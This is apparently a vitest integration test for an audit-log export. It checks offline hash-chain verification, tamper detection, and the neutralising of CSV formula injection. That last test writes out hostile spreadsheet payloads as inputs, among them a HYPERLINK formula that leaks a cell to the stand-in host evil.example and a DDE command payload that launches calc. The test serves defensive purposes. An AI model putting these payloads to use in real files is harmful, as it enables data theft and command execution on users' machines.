/**
 * The auditor's path end to end: the built Worker under `wrangler dev` exports
 * the log over HTTP, and the offline verifier (scripts/verify-audit-export.ts,
 * no database, no API) accepts it, and names the line of any tampering.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../core/audit/csv.ts";
import { verifyAuditExport } from "../../scripts/verify-audit-export.ts";
import { startTestStack, type TestStack } from "../harness/testStack.ts";

let stack: TestStack;
let token: string;

async function call(method: string, path: string, body?: unknown) {
  const headers: Record<string, string> = {};
  if (token) headers.authorization = `Bearer ${token}`;
  if (body !== undefined) headers["content-type"] = "application/json";
  return fetch(`${stack.apiUrl}${path}`, { method, headers, body: body === undefined ? undefined : JSON.stringify(body) });
}

beforeAll(async () => {
  stack = await startTestStack({ worker: "wrangler" });
  const login = await call("POST", "/api/auth/login", { username: "admin", password: stack.cfg.worker.adminPassword });
  token = ((await login.json()) as { token: string }).token;
  for (const name of ["audit-a", "audit-b", "audit-c"]) expect((await call("POST", "/api/clusters", { name })).status).toBe(201);
}, 180_000);

afterAll(async () => {
  await stack?.stop();
});

describe("audit export, verified offline", () => {
  let text: string;

  it("an NDJSON export verifies offline from genesis to the head verify reports", async () => {
    const res = await call("GET", "/api/audit/export?format=ndjson");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment;/);
    text = await res.text();
    const result = await verifyAuditExport(text);
    expect(result).toMatchObject({ ok: true, fromGenesis: true });
    const trailer = JSON.parse(text.trim().split("\n").at(-1)!);
    expect(result.ok && result.head).toEqual(trailer.head);
    expect(trailer.verified).toBe(true);
    // Nothing else writes to this stack: verify's head is the export's own audit row, right after the file's head.
    const verify = (await (await call("GET", "/api/audit/verify")).json()) as { ok: boolean; head: { id: number } };
    expect(verify.ok).toBe(true);
    const exported = (await (await call("GET", "/api/audit?action=AUDIT_EXPORTED&limit=1")).json()) as { items: { id: number; prevHash: string; details: { headHash: string } }[] };
    expect(exported.items[0]).toMatchObject({ id: verify.head.id, prevHash: trailer.head.hash, details: { headHash: trailer.head.hash } });
  });

  it("a tampered line is named by the offline verifier", async () => {
    const lines = text.trim().split("\n");
    const i = lines.findIndex((l) => l.includes('"audit-b"'));
    expect(i).toBeGreaterThan(0);
    const edited = [...lines];
    edited[i] = edited[i]!.replace('"audit-b"', '"audit-x"');
    const id = JSON.parse(lines[i]!).id;
    expect(await verifyAuditExport(edited.join("\n"))).toEqual({ ok: false, line: i + 1, id, reason: "hash_mismatch" });
    const dropped = lines.filter((_, j) => j !== i);
    expect(await verifyAuditExport(dropped.join("\n"))).toMatchObject({ ok: false, line: i + 1, reason: "prev_hash_mismatch" });
    expect(await verifyAuditExport(lines.slice(0, -1).join("\n"))).toMatchObject({ ok: false, reason: "trailer_missing" });
  });
});

describe("audit export, CSV with hostile cells (issue 12, item 5)", () => {
  it("a hostile User-Agent and URL id are neutralised in the CSV export, and the file still verifies offline", async () => {
    const hostileAgent = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", "user-agent": hostileAgent };
    expect((await fetch(`${stack.apiUrl}/api/clusters`, { method: "POST", headers, body: JSON.stringify({ name: "audit-hostile" }) })).status).toBe(201);
    // A rejected request whose audit row carries the id from the URL.
    const rejected = await fetch(`${stack.apiUrl}/api/clusters/${encodeURIComponent("@SUM(1+1)")}`, { method: "DELETE", headers: { ...headers, "user-agent": "+cmd|' /C calc'!A0" } });
    expect(rejected.status).toBeGreaterThanOrEqual(400);

    const res = await call("GET", "/api/audit/export?format=csv");
    expect(res.status).toBe(200);
    const text = await res.text();
    const [header, ...records] = parseCsv(text);
    records.pop();
    const col = (name: string) => header!.findIndex((f) => f.text === name);
    const mine = records.find((r) => r[col("user_agent")]!.text.includes("HYPERLINK"))!;
    expect(mine[col("user_agent")]!.text).toBe(`'${hostileAgent}`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    // Nowhere in the file does a cell start with a formula trigger.
    for (const r of records) for (const f of r) expect(/^[=+\-@\t\r]/.test(f.text), JSON.stringify(f.text)).toBe(false);
    expect(records.some((r) => r[col("user_agent")]!.text === "'+cmd|' /C calc'!A0")).toBe(true);

    const result = await verifyAuditExport(text);
    expect(result).toMatchObject({ ok: true, fromGenesis: true, rows: records.length });
  });
});
